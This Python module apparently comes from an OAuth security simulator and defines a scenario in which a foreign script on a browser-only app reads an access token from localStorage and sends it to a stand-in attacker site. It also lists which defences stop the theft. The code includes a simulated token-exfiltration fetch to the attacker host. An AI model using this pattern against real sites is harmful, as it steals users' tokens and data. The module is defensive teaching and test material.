"""A browser application keeps its token where every script of its site can read it (RFC 6749 §10.3)."""

from __future__ import annotations

from mockserver.client.browser_app import TOKEN
from mockserver.resource_owner.script import Window
from oauthsim.attacker import SITE
from oauthsim.attacks.crafted import EVENTS
from oauthsim.attacks.goals import reads_alices_data
from oauthsim.attacks.leaks.foreign_content import runs_in_the_page
from oauthsim.attacks.registry import attack
from oauthsim.clients import BROWSER_APP
from oauthsim.scenarios import STORIES, Step, Stopped
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.world import World

SCRIPT = f"{SITE}/counter.js"
A_WHILE = 600


@attack(
    "token-in-the-storage",
    title="Local storage read by a foreign script",
    spec="RFC 6749 §10.3",
    catalogue=("ATT-08",),
    goal=reads_alices_data,
    stopped_by=("tokens-stay-out-of-the-browsers-storage", "implicit-grant-is-off"),
    does_not_help=(
        "callback-shows-nothing-foreign",
        "token-has-not-expired",
        "tokens-are-encrypted-at-rest",
        "access-tokens-name-their-audience",
        "credentials-travel-over-tls",
    ),
    steps=(
        Step("Alice opens an application that is nothing but a page", request_to("/authorize")),
        Step(
            "It keeps its token in the browser, and reads her calendar", from_to("resource_owner", "calendar")
        ),
        Step(
            "Ten minutes later she opens it again: a script from elsewhere is in it",
            request_to("/counter.js"),
        ),
        Step("The script reads what the page has kept, and tells Mallory", request_to("/seen")),
        Step("Mallory calls the API with it", from_to("attacker", "calendar")),
    ),
)
def token_in_the_storage(world: World) -> None:
    """A script that the page loads from elsewhere reads the token in the browser's storage."""
    app = world.browser_app
    script = "tell(mallory, localStorage.access_token)"
    app.visitor_counter = world.mallory.serve("/counter.js", script, content_type="text/javascript")
    STORIES["implicit"].play(world)
    world.advance(A_WHILE)
    world.browser.open(f"https://{BROWSER_APP}/")
    runs_in_the_page(world, SCRIPT)
    world.browser.run_script(tell)
    token = world.mallory.caught(TOKEN)
    if not token:
        raise Stopped("the script has found no token")
    world.mallory.call(EVENTS, token)


def tell(window: Window) -> None:
    """What the script does in the page: it looks into the storage, and passes on what it finds."""
    window.fetch(f"{SITE}/seen?{TOKEN}={window.local_storage.get(TOKEN, '')}")
